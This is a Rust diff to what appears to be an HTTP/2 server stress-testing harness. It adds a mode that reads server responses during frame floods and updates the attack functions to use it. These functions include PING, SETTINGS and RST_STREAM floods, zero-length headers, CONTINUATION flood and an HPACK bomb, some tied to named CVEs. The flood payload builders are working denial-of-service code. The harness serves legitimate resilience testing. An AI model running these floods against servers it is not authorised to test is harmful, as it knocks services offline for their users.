@@ -149,17 +149,64 @@ fn setup_failed(name: &'static str) -> AttackReport {
 
 /// Writes batches from `batch(i)` (each `frames_per_batch` frames) until the budget is spent,
 /// the server blocks us or closes; then reads the server's verdict.
+/// Whether a flood reads what the server sends while it floods.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Watch {
+    /// Read on another thread: the flood stops as soon as the server's GOAWAY (or close)
+    /// arrives, so `frames_sent` counts what was written before the reaction was seen.
+    Reading,
+    /// Never read during the flood (the attack is about replies left unread: PING and
+    /// SETTINGS ACKs, RST_STREAMs); the verdict is read afterwards.
+    NotReading,
+}
+
+/// Writes batches from `batch(i)` (each `frames_per_batch` frames) until the budget is spent,
+/// the server blocks us, closes, or (with [`Watch::Reading`]) answers with GOAWAY; then
+/// reads the server's verdict.
 fn flood(
     name: &'static str,
     c: &mut Conn,
     budget: &Budget,
     frames_per_batch: u64,
+    watch: Watch,
     mut batch: impl FnMut(u64) -> Vec<u8>,
 ) -> AttackReport {
+    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+    use std::sync::{Arc, Mutex};
     let started = Instant::now();
     let (mut frames, mut bytes, mut i) = (0u64, 0u64, 0u64);
     let mut stopped = None;
-    while frames < budget.max_frames && started.elapsed() < budget.max_time {
+    let seen: Arc<Mutex<Option<Reaction>>> = Arc::new(Mutex::new(None));
+    let resets = Arc::new(AtomicU64::new(0));
+    let done = Arc::new(AtomicBool::new(false));
+    let reader = match watch {
+        Watch::Reading => c.reader().ok().map(|mut r| {
+            let (seen, resets, done) = (seen.clone(), resets.clone(), done.clone());
+            std::thread::spawn(move || {
+                while !done.load(Ordering::Relaxed) {
+                    let reaction =
+                        match r.read_frame_until(Instant::now() + Duration::from_millis(100)) {
+                            Observed::Frame(f) if f.kind == kind::GOAWAY => {
+                                Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR))
+                            }
+                            Observed::Frame(f) => {
+                                if f.kind == kind::RST_STREAM {
+                                    resets.fetch_add(1, Ordering::Relaxed);
+                                }
+                                continue;
+                            }
+                            Observed::Closed => Reaction::Closed,
+                            Observed::Timeout => continue,
+                        };
+                    *seen.lock().unwrap_or_else(|e| e.into_inner()) = Some(reaction);
+                    return;
+                }
+            })
+        }),
+        Watch::NotReading => None,
+    };
+    let reacted = || seen.lock().unwrap_or_else(|e| e.into_inner()).is_some();
+    while frames < budget.max_frames && started.elapsed() < budget.max_time && !reacted() {
         let b = batch(i);
         i += 1;
         match c.send_bounded(&b, budget.write_patience) {
@@ -177,7 +224,27 @@ fn flood(
             }
         }
     }
-    let reaction = verdict(c, budget, stopped);
+    let reaction = match reader {
+        Some(thread) => {
+            // Give the server its verdict time, then stop reading.
+            let deadline = Instant::now() + budget.verdict_timeout;
+            while !reacted() && Instant::now() < deadline && !thread.is_finished() {
+                std::thread::sleep(Duration::from_millis(10));
+            }
+            done.store(true, Ordering::Relaxed);
+            let _ = thread.join();
+            let seen = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
+            let resets = resets.load(Ordering::Relaxed);
+            match (seen, stopped) {
+                (Some(r @ Reaction::Goaway(_)), _) => r,
+                (_, Some(r)) => r,
+                (Some(r), None) => r,
+                (None, None) if resets > 0 => Reaction::ResetStreams(resets),
+                (None, None) => Reaction::Nothing,
+            }
+        }
+        None => verdict(c, budget, stopped),
+    };
     AttackReport {
         name,
         reaction,
@@ -240,7 +307,7 @@ pub fn data_dribble(addr: SocketAddr, budget: &Budget) -> AttackReport {
         open.extend(request(&c, LARGE_PATH, true, 2 * i + 1));
     }
     c.send_bytes(&open);
-    flood("data-dribble", &mut c, budget, 100, |_| {
+    flood("data-dribble", &mut c, budget, 100, Watch::Reading, |_| {
         let mut b = Vec::new();
         for i in 0..100u32 {
             b.extend(frame(
@@ -259,7 +326,7 @@ pub fn ping_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
     let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("ping-flood");
     };
-    flood("ping-flood", &mut c, budget, 1000, |i| {
+    flood("ping-flood", &mut c, budget, 1000, Watch::NotReading, |i| {
         let mut b = Vec::with_capacity(17_000);
         for j in 0..1000u64 {
             b.extend(frame(kind::PING, 0, 0, &(i * 1000 + j).to_be_bytes()));
@@ -273,7 +340,7 @@ pub fn priority_loop(addr: SocketAddr, budget: &Budget) -> AttackReport {
     let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("priority-loop");
     };
-    flood("priority-loop", &mut c, budget, 1000, |i| {
+    flood("priority-loop", &mut c, budget, 1000, Watch::Reading, |i| {
         let mut b = Vec::new();
         for j in 0..1000u32 {
             let s = 2 * ((j + i as u32) % 200) + 1;
@@ -296,26 +363,33 @@ pub fn reset_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
         return setup_failed("reset-flood");
     };
     let authority = c.authority.clone();
-    flood("reset-flood", &mut c, budget, 100, move |i| {
-        let mut b = Vec::new();
-        for j in 0..100u64 {
-            let id = (2 * (i * 100 + j) + 1) as u32;
-            let block = hpack_lite::block(&[
-                (":method", "GET"),
-                (":scheme", "http"),
-                (":path", "/"),
-                (":authority", &authority),
-                ("X-Upper", "malformed"),
-            ]);
-            b.extend(frame(
-                kind::HEADERS,
-                flag::END_HEADERS | flag::END_STREAM,
-                id,
-                &block,
-            ));
-        }
-        b
-    })
+    flood(
+        "reset-flood",
+        &mut c,
+        budget,
+        100,
+        Watch::NotReading,
+        move |i| {
+            let mut b = Vec::new();
+            for j in 0..100u64 {
+                let id = (2 * (i * 100 + j) + 1) as u32;
+                let block = hpack_lite::block(&[
+                    (":method", "GET"),
+                    (":scheme", "http"),
+                    (":path", "/"),
+                    (":authority", &authority),
+                    ("X-Upper", "malformed"),
+                ]);
+                b.extend(frame(
+                    kind::HEADERS,
+                    flag::END_HEADERS | flag::END_STREAM,
+                    id,
+                    &block,
+                ));
+            }
+            b
+        },
+    )
 }
 
 /// CVE-2019-9515: SETTINGS frames as fast as possible, never reading the ACKs.
@@ -323,15 +397,22 @@ pub fn settings_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
     let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("settings-flood");
     };
-    flood("settings-flood", &mut c, budget, 1000, |_| {
-        let one = frame(
-            kind::SETTINGS,
-            0,
-            0,
-            &settings_payload(&[(setting::MAX_CONCURRENT_STREAMS, 100)]),
-        );
-        one.repeat(1000)
-    })
+    flood(
+        "settings-flood",
+        &mut c,
+        budget,
+        1000,
+        Watch::NotReading,
+        |_| {
+            let one = frame(
+                kind::SETTINGS,
+                0,
+                0,
+                &settings_payload(&[(setting::MAX_CONCURRENT_STREAMS, 100)]),
+            );
+            one.repeat(1000)
+        },
+    )
 }
 
 /// CVE-2019-9516: header blocks of many empty names and values (each costs the server 32
@@ -341,23 +422,30 @@ pub fn zero_length_headers(addr: SocketAddr, budget: &Budget) -> AttackReport {
         return setup_failed("zero-length-headers");
     };
     let authority = c.authority.clone();
-    flood("zero-length-headers", &mut c, budget, 1, move |i| {
-        let mut block = hpack_lite::block(&[
-            (":method", "GET"),
-            (":scheme", "http"),
-            (":path", "/"),
-            (":authority", &authority),
-        ]);
-        for _ in 0..4000 {
-            block.extend_from_slice(&[0x00, 0x00, 0x00]);
-        }
-        frame(
-            kind::HEADERS,
-            flag::END_HEADERS | flag::END_STREAM,
-            (2 * i + 1) as u32,
-            &block,
-        )
-    })
+    flood(
+        "zero-length-headers",
+        &mut c,
+        budget,
+        1,
+        Watch::Reading,
+        move |i| {
+            let mut block = hpack_lite::block(&[
+                (":method", "GET"),
+                (":scheme", "http"),
+                (":path", "/"),
+                (":authority", &authority),
+            ]);
+            for _ in 0..4000 {
+                block.extend_from_slice(&[0x00, 0x00, 0x00]);
+            }
+            frame(
+                kind::HEADERS,
+                flag::END_HEADERS | flag::END_STREAM,
+                (2 * i + 1) as u32,
+                &block,
+            )
+        },
+    )
 }
 
 /// CVE-2019-9517: open every flow-control window wide, ask for large responses, and never
@@ -410,7 +498,7 @@ pub fn empty_frames(addr: SocketAddr, budget: &Budget) -> AttackReport {
     };
     let open = request(&c, "/", false, 1);
     c.send_bytes(&open);
-    flood("empty-frames", &mut c, budget, 1000, |_| {
+    flood("empty-frames", &mut c, budget, 1000, Watch::Reading, |_| {
         frame(kind::DATA, 0, 1, &[]).repeat(1000)
     })
 }
@@ -443,7 +531,7 @@ fn stream_churn(
         return setup_failed(name);
     };
     let template = request(&c, "/", end_stream, 1);
-    flood(name, &mut c, budget, 200, move |i| {
+    flood(name, &mut c, budget, 200, Watch::Reading, move |i| {
         let mut b = Vec::new();
         for j in 0..100u64 {
             let id = (2 * (i * 100 + j) + 1) as u32;
@@ -472,9 +560,14 @@ pub fn continuation_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
     c.send(kind::HEADERS, flag::END_STREAM, 1, &block);
     let mut filler = Vec::new();
     hpack_lite::literal(&mut filler, b"x-filler", &[b'a'; 1000]);
-    flood("continuation-flood", &mut c, budget, 10, move |_| {
-        frame(kind::CONTINUATION, 0, 1, &filler).repeat(10)
-    })
+    flood(
+        "continuation-flood",
+        &mut c,
+        budget,
+        10,
+        Watch::Reading,
+        move |_| frame(kind::CONTINUATION, 0, 1, &filler).repeat(10),
+    )
 }
 
 /// HPACK bomb: one 4 000-octet dynamic table entry, then header blocks that reference it
@@ -484,7 +577,7 @@ pub fn hpack_bomb(addr: SocketAddr, budget: &Budget) -> AttackReport {
         return setup_failed("hpack-bomb");
     };
     let authority = c.authority.clone();
-    flood("hpack-bomb", &mut c, budget, 1, move |i| {
+    flood("hpack-bomb", &mut c, budget, 1, Watch::Reading, move |i| {
         let mut block = hpack_lite::block(&[
             (":method", "GET"),
             (":scheme", "http"),
